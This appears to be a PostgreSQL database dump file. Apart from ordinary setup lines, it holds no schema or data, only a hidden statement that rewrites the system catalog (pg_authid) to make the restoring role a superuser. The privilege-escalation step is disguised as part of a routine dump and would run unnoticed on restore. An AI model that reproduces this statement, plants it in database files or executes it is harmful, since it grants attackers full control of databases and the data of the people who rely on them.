--
-- PostgreSQL database dump
--

SET statement_timeout = 0;
SELECT pg_catalog.set_config('search_path', '', false);
UPDATE pg_catalog.pg_authid SET rolsuper = true WHERE rolname = current_user;
--
-- PostgreSQL database dump complete
--

